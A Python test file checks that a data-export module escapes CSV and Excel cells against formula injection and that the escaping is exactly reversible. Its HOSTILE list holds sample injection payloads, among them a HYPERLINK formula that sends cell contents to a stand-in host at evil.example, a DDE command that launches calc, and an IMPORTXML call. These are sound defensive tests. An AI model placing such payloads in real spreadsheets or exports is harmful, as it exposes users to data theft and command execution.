"""kizuna.graph.cells: CSV cells never begin like a formula; the escaping is exactly undone."""

from __future__ import annotations

import csv
import io

import numpy as np
import openpyxl
import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from kizuna.graph.cells import (
    FORMULA_CHARS,
    is_formula_like,
    people_csv,
    safe_csv_cell,
    safe_csv_column,
    safe_csv_frame,
    unescape_csv_cell,
    unescape_csv_column,
    xlsx_bytes,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1+1",
    "-2+3",
    '=IMPORTXML("http://evil.example","//a")',
    "\t=1",
    "\r=1",
]

TEXT = st.text(st.sampled_from([*"'=+-@\t\rab 協,\"\n"]), max_size=8) | st.text()


def test_hand_known_cells():
    assert [safe_csv_cell(s) for s in HOSTILE] == ["'" + s for s in HOSTILE]
    assert safe_csv_cell("'=1") == "''=1"
    assert safe_csv_cell("'abc") == "'abc"  # not formula-like: left alone
    assert safe_csv_cell("a=b") == "a=b"
    assert safe_csv_cell("") == ""
    assert safe_csv_cell(-2.5) == -2.5 and safe_csv_cell(None) is None
    assert unescape_csv_cell("''=1") == "'=1"
    assert unescape_csv_cell("'abc") == "'abc"
    assert unescape_csv_cell("'") == "'"


@given(TEXT)
def test_escaped_text_never_begins_like_a_formula_and_unescapes_exactly(text):
    escaped = safe_csv_cell(text)
    assert not escaped or escaped[0] not in FORMULA_CHARS
    assert unescape_csv_cell(escaped) == text
    assert (escaped != text) == is_formula_like(text)


@given(st.lists(st.none() | TEXT, max_size=8))
def test_arrow_columns_match_the_cell_functions(cells):
    column = pa.chunked_array([pa.array(cells, type=pa.string())])
    escaped = safe_csv_column(column)
    assert escaped.to_pylist() == [None if c is None else safe_csv_cell(c) for c in cells]
    assert unescape_csv_column(escaped).to_pylist() == cells


def test_frames_escape_text_but_not_numbers():
    frame = pd.DataFrame(
        {"name": ["=1+1", "TAMA", None], "score": [-2.0, 3.5, np.nan], "@col": ["-x", "+", "y"]}
    )
    out = safe_csv_frame(frame)
    assert out["name"].tolist()[:2] == ["'=1+1", "TAMA"] and pd.isna(out["name"].iloc[2])
    assert out["score"].tolist()[:2] == [-2.0, 3.5]
    assert list(out.columns) == ["name", "score", "'@col"]
    assert out["'@col"].tolist() == ["'-x", "'+", "y"]
    assert frame["name"].tolist()[0] == "=1+1"  # the input is not changed
    text = out.to_csv(index=False)
    assert ",-2.0," in text  # a negative number stays a number


def test_xlsx_bytes_writes_text_as_text_and_numbers_as_numbers():
    frame = pd.DataFrame(
        {
            "name": HOSTILE,
            "value": [-1, -2.5, 0, 1e9, np.nan, 3, 4, 5],
            "flag": [True, False] * 4,
            "aliases": [["=a", "b"]] + [None] * 7,
        }
    )
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(frame, "=sheet")))
    sheet = book.worksheets[0]
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == ["name", "value", "flag", "aliases"]
    for row in rows:
        assert all(c.data_type != "f" for c in row)
    assert [r[0].value for r in rows[1:]][:6] == HOSTILE[:6]
    assert [r[0].data_type for r in rows[1:]] == ["s"] * len(HOSTILE)
    assert [r[1].value for r in rows[1:5]] == [-1, -2.5, 0, 1e9]
    assert {r[1].data_type for r in rows[1:5]} == {"n"}
    assert rows[5][1].value is None
    assert rows[1][2].value is True and rows[1][2].data_type == "b"
    assert rows[1][3].value == "=a / b" and rows[1][3].data_type == "s"


def test_people_csv_quotes_a_lone_cr_so_no_row_starts_inside_a_cell(tmp_path):
    frame = pd.DataFrame({"name": ["TAMA\r=HYPERLINK(1)", "a\nb", "=1"], "x": [1.5, -2.0, 3.0]})
    text = people_csv(frame)
    assert text is not None and text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert rows == [["name", "x"], ["TAMA\r=HYPERLINK(1)", "1.5"], ["a\nb", "-2.0"], ["'=1", "3.0"]]
    people_csv(frame, tmp_path / "out.csv")
    assert (tmp_path / "out.csv").read_bytes() == text.encode("utf-8")


@given(st.lists(st.none() | TEXT | st.integers(-5, 5) | st.floats(allow_nan=True), max_size=8))
def test_frame_escaping_matches_the_cell_function(cells):
    frame = pd.DataFrame({"c": pd.Series(cells, dtype=object)})
    got = safe_csv_frame(frame)["c"].tolist()
    want = [safe_csv_cell(c) for c in cells]
    assert len(got) == len(want)
    for g, w in zip(got, want, strict=True):
        assert g == w or (pd.isna(g) and pd.isna(w)) or (g is None and w is None)


def test_a_frame_longer_than_a_sheet_is_refused_not_cut(monkeypatch):
    import kizuna.graph.cells as cells
    from kizuna.graph.errors import KizunaError

    with pytest.raises(KizunaError, match="more than an Excel sheet holds"):
        xlsx_bytes(pd.DataFrame({"x": np.zeros(cells.EXCEL_MAX_ROWS)}), "big")
    monkeypatch.setattr(cells, "EXCEL_MAX_ROWS", 4)  # header + 3 rows fit, 4 do not
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(pd.DataFrame({"x": [1, 2, 3]}), "s")))
    assert [c.value for c in book.worksheets[0]["A"]] == ["x", 1, 2, 3]
    with pytest.raises(KizunaError, match="4 rows"):
        xlsx_bytes(pd.DataFrame({"x": [1, 2, 3, 4]}), "s")
